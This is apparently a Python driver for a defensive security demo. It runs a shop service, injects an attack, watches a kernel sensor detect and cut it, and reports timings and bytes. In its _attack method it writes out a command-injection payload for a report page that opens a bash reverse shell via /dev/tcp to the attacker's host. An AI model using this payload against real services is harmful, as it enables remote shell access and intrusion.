# SPDX-License-Identifier: Apache-2.0
"""The story on a real kernel: let the scene run, attack, watch the cut, draw the balance.

What the report says is taken from the topics (observer.py), from the attacker's own log and from the
client's own counts.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from demo.observer import Observer
from demo.recording import save
from demo.report import Report, Times
from demo.scene import ATTACKER_NAME, SHELL_PORT, Reader, Scene
from stream_apps.correlate.ledger import LossLedger

if TYPE_CHECKING:
    from collections.abc import Callable

    from demo.screen import Screen

BENIGN_S = 4.0
SILENCE_S = 3.0
CUT_TIMEOUT_S = 30.0
RULE = "nsp.rce-egress"
QUIET_S = 1.0  # no further batch for so long: everything sent has been read


class Story:
    """One run; ``play`` tells it once and returns the report."""

    def __init__(self, screen: Screen, build: Path) -> None:
        """Plan a run that writes under ``build``."""
        self._screen = screen
        self._build = build
        self._scene = Scene(build / "logs")

    def play(self) -> Report:
        """Tell the story.

        Raises:
            DemoError: a part did not start, ended early or did not end.
        """
        with self._scene as scene:
            self._start_pipeline()
            names = {pod.uid: name for name, pod in scene.pods.items()}
            with Observer(scene.brokers, names) as observer:
                self._screen.step("starting a name server, the shop, its customer and the attacker's host")
                customer = scene.start_shop(observer)
                attacker = scene.start_attacker()
                self._benign(observer, customer)
                self._attack(observer, attacker)
                self._silence(observer, customer)
                scene.end("workload client")
                self._end_sensor(observer)
                self._record(observer)
                return balance(observer, attacker, customer)

    def _start_pipeline(self) -> None:
        scene, say = self._scene, self._screen.step
        say("starting the embedded broker (librdkafka's mock cluster: one broker, in memory)")
        scene.start_embedded_broker()
        scene.prepare()
        say("starting the stream app (Faust): correlate, detect, respond")
        scene.start_stream()
        say("starting the sensor: compile, load, attach, pin (a few seconds)")
        scene.start_sensor()
        scene.wait_until_sensor_is_healthy()
        scene.wait_until_stream_is_healthy()

    def _benign(self, observer: Observer, customer: Reader) -> None:
        self._screen.step("benign traffic: the customer uses the shop; its report page even starts shells")
        self._show_for(observer, BENIGN_S)
        last = customer.lines[-1]
        alerts = len(observer.read().alerts)
        self._screen.step(
            f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well"
        )

    def _attack(self, observer: Observer, attacker: Reader) -> None:
        command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{SHELL_PORT} 0>&1'"
        self._screen.step("the attacker sends one request to the report page:", "bold red")
        self._screen.step(f"  /report?title=x; ({command} &)", "red")
        self._screen.focus = "web"
        attacker.tell("go")
        self._show_until(observer, "an alert", lambda: observer.alert(RULE) is not None)
        alert = observer.alert(RULE) or {}
        found = f"DETECTED  {alert['rule_id']} {alert['severity']}: {alert['description']}"
        self._screen.step(found, "bold yellow")
        self._screen.process_tree(alert["lineage"])
        self._show_until(observer, "the acknowledgement", lambda: observer.status("APPLIED") is not None)
        applied = observer.status("APPLIED") or {}
        self._screen.step(
            f"CUT       written to the kernel: {applied['processes']} processes, {applied['sockets']} open "
            "sockets; the shop's own process is not among them",
            "bold green",
        )
        self._show_until(observer, "a refusal", lambda: observer.status("FIRST_REFUSAL") is not None)
        self._screen.times(times_of(observer))

    def _silence(self, observer: Observer, customer: Reader) -> None:
        before = customer.lines[-1]["requests"]
        self._screen.step("the attacker keeps typing into the open shell, the implant keeps dialling ...")
        self._show_for(observer, SILENCE_S)
        last = customer.lines[-1]
        served = last["requests"] - before
        self._screen.step(
            f"... and gets nothing; the shop answered {served} more requests, {last['failed']} failed"
        )

    def _show_for(self, observer: Observer, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self._tick(observer)

    def _show_until(self, observer: Observer, what: str, condition: Callable[[], bool]) -> None:
        def shown() -> bool:
            self._tick(observer)
            return condition()

        self._scene.wait(what, shown, CUT_TIMEOUT_S)

    def _tick(self, observer: Observer) -> None:
        self._screen.events(observer.take_lines())
        seen = observer.read()
        self._screen.facts(f"{seen.events} events, {len(seen.alerts)} alerts, {seen.refusals} refusals")
        time.sleep(0.02)

    def _end_sensor(self, observer: Observer) -> None:
        self._screen.step("stopping the sensor: it drains the ring; enforcement would stay in the kernel")
        self._scene.end("sensor")
        wait_until_quiet(observer)

    def _record(self, observer: Observer) -> None:
        path = self._build / "recording.avro.gz"
        workloads = frozenset(pod.uid for pod in self._scene.pods.values())
        size = save(path, observer.read().batches, workloads, Path(__file__).parent.parent)
        self._screen.step(f"recorded the run's events: {path} ({size // 1024} KiB)")


def wait_until_quiet(observer: Observer) -> None:
    """Wait until nothing new has been read for a while."""
    quiet_since, count = time.monotonic(), -1
    while time.monotonic() - quiet_since < QUIET_S:
        if observer.read().events != count:
            quiet_since, count = time.monotonic(), observer.read().events
        time.sleep(0.05)


def boot_to_wall_ns() -> int:
    """Return what to add to CLOCK_BOOTTIME to get CLOCK_REALTIME on this machine, now."""
    return time.time_ns() - time.clock_gettime_ns(time.CLOCK_BOOTTIME)


def times_of(observer: Observer) -> Times:
    """Return the four times of the first response."""
    applied: dict[str, Any] = observer.status("APPLIED") or {}
    refused: dict[str, Any] = observer.status("FIRST_REFUSAL") or {}
    return Times(
        applied["evidence_boot_ns"],
        applied["issued_at_ns"] - boot_to_wall_ns(),
        applied["applied_boot_ns"],
        refused["first_refused_boot_ns"],
    )


def balance(observer: Observer, attacker: Reader, customer: Reader) -> Report:
    """Return the report of a run that has ended."""
    times = times_of(observer)
    seen = observer.read()
    ledger = LossLedger()
    for batch in seen.batches:
        ledger.add(batch)
    totals = ledger.totals()
    blocked_at = times.map_written_ns + boot_to_wall_ns()
    arrived = [(line["at_wall_ns"], line["bytes"]) for line in attacker.lines if "bytes" in line]
    beacons = [line["at_wall_ns"] for line in attacker.lines if line.get("event") == "beacon"]
    return Report(
        alerts=len(seen.alerts),
        rules=sorted({alert["rule_id"] for alert in seen.alerts.values()}),
        time_to_block_ms=times.after_first_ms(times.map_written_ns),
        decided_after_ms=times.after_first_ms(times.decided_ns),
        first_refused_after_ms=times.after_first_ms(times.first_refused_ns),
        service_requests=customer.lines[-1]["requests"],
        service_requests_failed=customer.lines[-1]["failed"],
        attacker_bytes_before_block=sum(size for at, size in arrived if at <= blocked_at),
        attacker_bytes_after_block=sum(size for at, size in arrived if at > blocked_at),
        attacker_beacons_after_block=sum(at > blocked_at for at in beacons),
        events_produced=totals.produced,
        events_seen=totals.seen,
        events_counted_lost=totals.lost,
        events_unaccounted=totals.unaccounted,
        recorded=False,
    )
